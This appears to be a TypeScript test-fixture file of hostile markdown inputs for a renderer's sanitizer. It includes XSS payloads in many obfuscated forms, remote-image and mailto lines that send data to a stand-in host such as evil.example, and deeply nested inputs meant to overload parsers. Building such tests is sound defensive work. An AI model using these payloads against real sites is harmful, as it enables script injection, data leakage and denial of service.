import type { Attack } from "./attack.ts";
import { codeBlockAttacks } from "./codeBlockAttacks.ts";

/**
 * Hostile markdown. None of it may run a script, request external content, or add a frame, a style or a disallowed
 * link.
 */
export const markdownAttacks: readonly Attack[] = [
  ...hostileUrls().map((url) => ({ name: `link to ${JSON.stringify(url)}`, source: `[x](${url})` })),
  ...hostileUrls().map((url) => ({
    name: `<…> link to ${JSON.stringify(url)}`,
    source: `[x](<${url}>)`,
  })),
  ...hostileUrls().map((url) => ({ name: `image of ${JSON.stringify(url)}`, source: `![x](${url})` })),
  ...hostileUrls().map((url) => ({
    name: `reference to ${JSON.stringify(url)}`,
    source: `[x][y] and [y] and ![y]\n\n[y]: ${url}`,
  })),
  ...hostileUrls().map((url) => ({ name: `autolink of ${JSON.stringify(url)}`, source: `<${url}>` })),
  { name: "script element", source: "<script>alert(1)</script>" },
  { name: "script in a paragraph", source: "text <script src=//evil.example/x.js></script> text" },
  { name: "nested script tags", source: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "event handler", source: "<img src=x onerror=alert(1)>" },
  { name: "event handler without spaces", source: "<svg/onload=alert(1)>" },
  { name: "svg with a script", source: "<svg><script>alert(1)</script></svg>" },
  {
    name: "svg with an animated URL",
    source: '<svg><a><animate attributeName=href values="javascript:alert(1)"/></a></svg>',
  },
  { name: "math with a link", source: '<math><maction xlink:href="javascript:alert(1)">x</maction></math>' },
  { name: "style element", source: "<style>body{background:url(https://evil.example/x)}</style>" },
  { name: "style attribute", source: '<p style="background:url(https://evil.example/x)">x</p>' },
  { name: "frame", source: '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: "object and embed", source: '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">' },
  { name: "form", source: '<form action="javascript:alert(1)"><button>x</button></form>' },
  { name: "base element", source: '<base href="https://evil.example/">' },
  { name: "meta refresh", source: '<meta http-equiv="refresh" content="0;url=https://evil.example">' },
  { name: "linked stylesheet", source: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: "a comment that ends early", source: "<!--><script>alert(1)</script>-->" },
  { name: "processing instruction", source: '<?xml-stylesheet href="javascript:alert(1)"?>' },
  { name: "CDATA section", source: "<![CDATA[<script>alert(1)</script>]]>" },
  { name: "line break with an event handler", source: "<br onclick=alert(1)> <br/onclick=alert(1)>" },
  { name: "remote image", source: "![x](https://evil.example/pixel.gif?secret)" },
  { name: "remote image without a scheme", source: "![x](//evil.example/pixel.gif)" },
  { name: "remote image with backslashes", source: "![x](/\\evil.example/pixel.gif) ![x](\\\\evil.example/p.gif)" },
  { name: "remote image in a link", source: "[![x](https://evil.example/p.gif)](javascript:alert(1))" },
  { name: "embedded svg image", source: "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)" },
  {
    name: "embedded image that breaks out of its attribute",
    source: '![x](data:image/png;base64,AAAA"onerror="alert(1))',
  },
  { name: "URLs of this server with side effects", source: "![x](/auth/signout) ![x](/api/session)" },
  { name: "a link in a link", source: "[a [b](javascript:alert(1)) c](https://example.org)" },
  { name: "an image in a link in an image", source: "![a [b ![c](javascript:x)](vbscript:y)](data:text/html,z)" },
  { name: "attribute in a title", source: '[x](https://example.org "a\\" onmouseover=\\"alert(1)")' },
  { name: "attribute in a URL", source: '[x](https://example.org/"onmouseover="alert(1))' },
  { name: "attribute in alternative text", source: '![" onerror="alert(1)](data:image/png;base64,AAAA)' },
  { name: "attribute in the language of a fence", source: '```"><script>alert(1)</script>\ncode\n```' },
  {
    name: "a misleading host",
    source: "[x](https://bank.example@evil.example) <https://a:b@evil.example>",
  },
  {
    name: "a host with backslashes",
    source: "[x](https:\\\\evil.example) [y](https:/\\evil.example) [z](http:evil.example)",
  },
  { name: "bidi override in a URL", source: "[x](https://example.org/\u202egnp.exe)" },
  {
    name: "mailto with an attachment",
    source: "<mailto:a@example.org?attach=/etc/passwd> [x](mailto:a@b.example?attach=/etc/passwd)",
  },
  { name: "mailto with a script", source: "[x](mailto:javascript:alert(1))" },
  { name: "TeX with a link", source: "$\\href{javascript:alert(1)}{x}$ $$\\url{javascript:alert(1)}$$" },
  { name: "TeX with an image", source: "$\\includegraphics{https://evil.example/p.gif}$" },
  {
    name: "TeX with markup",
    source: "$\\htmlStyle{background:url(//evil.example)}{x} \\htmlData{a=b}{x} \\text{<script>}$",
  },
  { name: "endlessly expanding TeX", source: "$$\\def\\x{\\x\\x}\\x$$" },
  {
    name: "prototype properties as labels",
    source: "[__proto__] [constructor] [toString][hasOwnProperty]\n\n[__proto__]: javascript:alert(1)",
  },
  { name: "scripts in a table", source: "| <script>alert(1)</script> |\n| --- |\n| [x](javascript:alert(1)) |" },
  {
    name: "media elements that load automatically",
    source: "<video src=//evil.example/x autoplay><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  },
  {
    name: "picture with several sources",
    source: "<picture><source srcset=//evil.example/x><img srcset='//evil.example/y 2x'></picture>",
  },
  {
    name: "event handlers on focus",
    source: "<input autofocus onfocus=alert(1)> <details open ontoggle=alert(1)> <select autofocus onfocus=alert(1)>",
  },
  { name: "body and html elements", source: "<body onload=alert(1)><html manifest=//evil.example/x>" },
  {
    name: "event handlers on animation",
    source: "<marquee onstart=alert(1)>x</marquee> <p style='animation-name:x' onanimationstart=alert(1)>",
  },
  { name: "an unclosed tag", source: "<img src=x onerror=alert(1) " },
  {
    name: "a tag with unusual whitespace",
    source: "<img\u000csrc=x\u000conerror=alert(1)> <img/\u0001/src=x/onerror=alert(1)>",
  },
  {
    name: "markup that changes when parsed twice",
    source: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    name: "markup after noscript",
    source: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: "markup after closing tags of raw text elements",
    source: "</title></textarea></style></script><img src=x onerror=alert(1)><plaintext><xmp>",
  },
  {
    name: "markup in a template",
    source: "<template><img src=x onerror=alert(1)></template><dialog open>x</dialog>",
  },
  {
    name: "style in nested math",
    source: '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  },
  {
    name: "DOM clobbering",
    source: "<a id=root></a><form name=body><input name=attributes></form><img name=getElementById>",
  },
  {
    name: "a button outside of its form",
    source: "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
  },
  {
    name: "prefetch links",
    source: "<link rel=prefetch href=//evil.example/x><link rel=dns-prefetch href=//evil.example>",
  },
  { name: "a link with ping", source: "<a href=https://example.org ping=//evil.example/x>x</a>" },
  {
    name: "imported styles",
    source: "<style>@import '//evil.example/x.css'; @font-face{src:url(//evil.example/x)}</style>",
  },
  {
    name: "nested character references",
    source: "&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt; &#60;script&#62;alert(1)&#60;/script&#62;",
  },
  { name: "a script in inline code", source: "`<script>alert(1)</script>` ``<img src=x onerror=alert(1)>``" },
  {
    name: "a script in an HTML code block",
    source: "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
  },
  {
    name: "a script in an SVG code block",
    source: '```svg\n<svg onload="alert(1)"><script>alert(1)</script></svg>\n```',
  },
  { name: "a path as a file name", source: "```js title=../../x.html filename=../../etc/passwd\ncode\n```" },
  { name: "bidi control characters", source: "[\u202egnp.example\u202c](https://example.org/) \u2066x\u2069" },
  {
    name: "homoglyphs in a host",
    source: "<https://ex\u0430mple.org/> [https://bank.example](https://\u0435vil.example/)",
  },
  {
    name: "header injection in mailto",
    source: "<mailto:a@b.example?bcc=c@evil.example&body=x> [x](mailto:a@b.example%0d%0abcc:c@evil.example)",
  },
  { name: "in-app links that send a message", source: "[x](#chat:send/secret) [y](# chat:send/x) [z](#\tchat:send/x)" },
  { name: "a script in headings", source: "# <script>alert(1)</script>\n\n<script>alert(1)</script>\n===" },
  {
    name: "a footnote and an attribute list",
    source: "x[^1]{onclick=alert(1)}\n\n[^1]: javascript:alert(1) {#root .x onclick=alert(1)}",
  },
  ...codeBlockAttacks,
  {
    name: "TeX commands with access to the page or files",
    source: "$\\htmlId{root}{x} \\htmlClass{x}{y} \\unicode{x3c} \\def\\href#1#2{x} \\input{/etc/passwd}$",
  },
];

const delimiters = [..."`*_~[]<>$|"];
const otherDelimiters = [..."`*_["];

/** Runs of one delimiter in every length, nested pairs of it, and runs before other delimiters. */
const createDelimiterAttacks = (delimiter: string) => [
  {
    name: `${delimiter} in runs of rising lengths`,
    source: `x ${Array.from({ length: 600 }, (_, n) => delimiter.repeat(n + 1)).join(" ")}`,
  },
  {
    name: `${delimiter} in runs of falling lengths between letters`,
    source: `x ${Array.from({ length: 190 }, (_, n) => delimiter.repeat(190 - n)).join("a")}`,
  },
  { name: `${delimiter} nested`, source: `x ${`${delimiter}a `.repeat(3_000)}${` b${delimiter}`.repeat(3_000)}` },
  { name: `${delimiter} far apart`, source: `${delimiter}${"a".repeat(1_000)} `.repeat(190) },
  { name: `${delimiter} in link labels`, source: `[${delimiter}a${delimiter} ${delimiter}b](c) `.repeat(480) },
  { name: `${delimiter} in unclosed link labels`, source: `[${delimiter}a`.repeat(4_900) },
  { name: `${delimiter} in pairs`, source: `x ${`${delimiter}${delimiter}a `.repeat(4_000)}` },
  ...otherDelimiters
    .filter((other) => other !== delimiter)
    .map((other) => ({
      name: `${delimiter} before ${other}`,
      source: `${delimiter}${delimiter}${other}a`.repeat(4_900),
    })),
];

/** Long or deeply nested markdown that is known to overload parsers. */
export const heavyMarkdown: readonly { name: string; source: string }[] = [
  { name: "deep quotes", source: `${">".repeat(1_000)} x` },
  { name: "deep quotes with spaces", source: `${"> ".repeat(1_000)}x` },
  { name: "deep lists on one line", source: `${"- ".repeat(1_000)}x` },
  {
    name: "deep lists by indent",
    source: Array.from({ length: 1_000 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  },
  { name: "alternating quotes and lists", source: `${"> - ".repeat(500)}x` },
  { name: "deep emphasis", source: `${"*a ".repeat(2_000)}${" b*".repeat(2_000)}` },
  { name: "deep strong", source: `${"**a ".repeat(2_000)}` },
  { name: "alternating emphasis", source: "*_".repeat(5_000) },
  { name: "brackets", source: "[".repeat(20_000) },
  { name: "image brackets", source: "![".repeat(10_000) },
  { name: "closed brackets", source: `${"[".repeat(3_000)}a${"]".repeat(3_000)}` },
  { name: "unclosed links", source: "[a](b".repeat(5_000) },
  { name: "links in links", source: `${"[a](".repeat(1_000)}b${")".repeat(1_000)}` },
  { name: "references in references", source: `${"[a][".repeat(5_000)}` },
  { name: "backticks", source: "`".repeat(10_000) },
  { name: "backtick runs of every length", source: Array.from({ length: 300 }, (_, n) => "`".repeat(n + 1)).join(" ") },
  ...delimiters.flatMap(createDelimiterAttacks),
  { name: "angle brackets", source: "<".repeat(20_000) },
  { name: "unclosed tags", source: "<a b=".repeat(5_000) },
  { name: "unclosed comments", source: "<!--".repeat(5_000) },
  { name: "URLs", source: "www.".repeat(5_000) },
  { name: "an email address with many dots", source: `a@b${".a".repeat(10_000)}_` },
  { name: "a URL with many hyphens", source: `http://${"a-".repeat(10_000)}` },
  { name: "dollars", source: "$".repeat(20_000) },
  { name: "dollars with words", source: "$a ".repeat(8_000) },
  { name: "unclosed formulas", source: "\\(".repeat(10_000) },
  { name: "ampersands", source: "&".repeat(20_000) },
  { name: "tildes", source: "~~a ".repeat(5_000) },
  { name: "backslashes", source: "\\".repeat(20_000) },
  { name: "a wide table", source: `${"| a ".repeat(2_000)}|\n${"| - ".repeat(2_000)}|\n${"| b ".repeat(2_000)}|` },
  { name: "table rows without a delimiter row", source: "| a | b |\n".repeat(2_000) },
  {
    name: "definitions",
    source: Array.from({ length: 2_000 }, (_, n) => `[l${n}]: https://example.org/${n}`).join("\n"),
  },
  { name: "an unclosed definition", source: `[a]: /x "${"b ".repeat(10_000)}` },
  { name: "setext headings", source: "a\n-\n".repeat(3_000) },
  { name: "spaces", source: `a${" ".repeat(50_000)}b` },
  { name: "line ends", source: `a${"\n".repeat(50_000)}b` },
  { name: "tabs in a list", source: `-${"\t".repeat(5_000)}x` },
  { name: "list numbers", source: "1. ".repeat(5_000) },
  { name: "one long word", source: "a".repeat(100_000) },
  { name: "deep TeX", source: `$${"{".repeat(1_900)}x${"}".repeat(1_900)}$` },
  { name: "deep fractions", source: `$$${"\\frac{1}{".repeat(300)}x${"}".repeat(300)}$$` },
];

/**
 * URLs that run scripts or are otherwise not allowed, in many spellings. `\t` and the like are real characters here.
 */
function hostileUrls(): string[] {
  return [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:TEXT/HTML,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png,<script>alert(1)</script>",
    "data:image/png;base64,AAAA;text/html",
    "blob:https://example.org/x",
    "file:///etc/passwd",
    "filesystem:https://example.org/x",
    "about:blank",
    "view-source:https://example.org",
    "feed:javascript:alert(1)",
    "ftp://example.org/x",
    "xmpp:a@example.org",
    "intent://example.org#Intent;scheme=http;end",
    "ms-settings:",
    "tel:123",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:///evil.example",
    "https://",
    "http:javascript:alert(1)",
    "relative/path",
    "/own/path",
    "?query",
    "",
  ];
}
